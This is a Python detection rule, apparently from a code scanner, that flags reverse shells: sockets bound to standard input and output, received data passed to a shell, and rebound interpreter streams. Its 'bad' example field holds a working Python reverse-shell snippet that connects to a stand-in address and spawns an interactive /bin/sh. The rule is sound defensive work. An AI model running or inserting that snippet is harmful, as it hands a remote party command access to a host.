"""A shell whose input and output are a connection that the program opened itself."""

from __future__ import annotations

from collections.abc import Iterator

from antivenom.pycode.commands import opens_shell
from antivenom.pycode.rules.kit import Case, Rule, Seen, of_traits, origins, shown, taint_of_role, whence, words_of
from antivenom.pycode.rules.sockets import handed


def check(case: Case) -> Iterator[Seen]:
    """A connected socket bound to standard input and output, and what runs on it."""
    for one in handed(case):
        if one.listening:
            continue
        score = 97 if one.shell else 90 if one.runs else 72
        then = f"hands the connection to {one.runs}" if one.runs else "makes the connection its own input and output"
        if one.shell or not one.runs:
            then += ": whoever is at the other end can type commands"
        yield Seen(score, f"It connects to {one.where}, then {then}.", one.facts)
    for fact in case.of("rebind"):
        joined = fact.name in ("sys.stdin", "sys.stdout") and origins(fact.taint, "socket", "connect", "accept")
        if joined and case.of("interactive", "typed", "execute"):
            yield Seen(
                92,
                "It makes a connection the interpreter's own input: whoever is there can type Python.",
                (fact, *case.of("connect")[:1]),
            )
            break
    for fact in case.of("input"):
        if origins(taint_of_role(fact, "data"), "receive"):
            shells = [one for one in case.of("process") if opens_shell(words_of(one)) is not None]
            if shells:
                source = whence(case, origins(taint_of_role(fact, "data"), "receive")[0])
                yield Seen(
                    95,
                    f"It passes what it receives{f' from {source}' if source else ''} on to a shell"
                    f" ({shown(' '.join(words_of(shells[0])))}).",
                    (shells[0], fact),
                )
    yield from of_traits(case, "reverse_shell")


RULE = Rule(
    id="reverse_shell",
    title="Reverse shell",
    attack=("T1059.006", "T1059.004", "T1095"),
    why="A shell that calls out passes most firewalls, and gives an intruder a prompt on the host.",
    bad="import os, socket, subprocess\ns = socket.socket(); s.connect(('192.0.2.10', 4444))\nos.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); subprocess.call(['/bin/sh', '-i'])",
    good="s.connect((host, 5432)); s.sendall(b'ping')",
    references=("https://attack.mitre.org/techniques/T1059/006/", "https://gtfobins.github.io/gtfobins/python/"),
    wakes=frozenset({"dup2", "process", "input", "rebind"}),
    check=check,
)
